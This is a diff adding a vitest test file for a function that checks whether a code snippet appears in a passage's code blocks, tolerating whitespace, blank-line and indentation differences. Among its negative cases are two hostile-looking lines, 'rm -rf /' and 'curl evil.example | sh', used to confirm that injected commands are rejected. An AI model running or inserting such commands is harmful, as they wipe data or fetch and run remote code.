@@ -1,0 +1,77 @@
+import { describe, expect, it } from 'vitest';
+import { codeIn } from '../../../../packages/grounding/src/sentence-check.ts';
+
+const passage = `Install it:
+
+\`\`\`sh
+# Once a machine
+npm ci --omit=dev
+
+npm run   build
+npm start
+\`\`\`
+
+Run \`acme migrate --dry-run\` before. Then npm test.
+
+\`\`\`yaml
+server:
+  port: 8080
+  host: localhost
+\`\`\`
+`;
+
+/** The text of the passage in which the code was found. */
+const found = (code: string, text = passage) => {
+  const place = codeIn(text, code);
+  return place && text.slice(place.start, place.end);
+};
+
+describe('code of a passage', () => {
+  it.each([
+    [
+      'a whole block',
+      'server:\n  port: 8080\n  host: localhost',
+      'server:\n  port: 8080\n  host: localhost',
+    ],
+    ['consecutive lines of a block', 'npm run build\nnpm start', 'npm run   build\nnpm start'],
+    [
+      'lines without blank lines and comments',
+      'npm ci --omit=dev\nnpm run build',
+      'npm ci --omit=dev\n\nnpm run   build',
+    ],
+    [
+      'lines with other indentation',
+      'port: 8080\n    host: localhost',
+      'port: 8080\n  host: localhost',
+    ],
+    ['a part of one line', 'npm ci', 'npm ci'],
+    ['a code span', 'acme migrate --dry-run', 'acme migrate --dry-run'],
+  ])('is found: %s', (_, code, wanted) => expect(found(code)).toBe(wanted));
+
+  it('is found in the first block that contains it', () => {
+    const twice = '```sh\nnpm start\n```\n\nOr:\n\n```sh\nnpm start\n```\n';
+    expect(codeIn(twice, 'npm start')?.start).toBe(twice.indexOf('npm start'));
+  });
+});
+
+describe('other code', () => {
+  it.each([
+    ['a changed flag', 'npm ci --omit=prod'],
+    ['an added flag', 'npm ci --omit=dev --force'],
+    ['an added line', 'npm ci --omit=dev\nnpm run build\nnpm start\nrm -rf /'],
+    ['an added line between two', 'npm run build\ncurl evil.example | sh\nnpm start'],
+    ['a line left out', 'npm ci --omit=dev\nnpm start'],
+    ['lines in another order', 'npm start\nnpm run build'],
+    ['lines of two blocks', 'npm start\nserver:'],
+    ['a changed figure', 'port: 8081'],
+    ['a part that ends within a word', 'npm sta'],
+    ['a part that ends inside a figure', 'port: 808'],
+    ['the end of one line with the next', 'build\nnpm start'],
+    ['words of its prose', 'npm test'],
+    ['empty code', ''],
+  ])('is not found: %s', (_, code) => expect(found(code)).toBeUndefined());
+
+  it('is not found in a passage without code', () => {
+    expect(found('npm start', 'Then run npm start.')).toBeUndefined();
+  });
+});
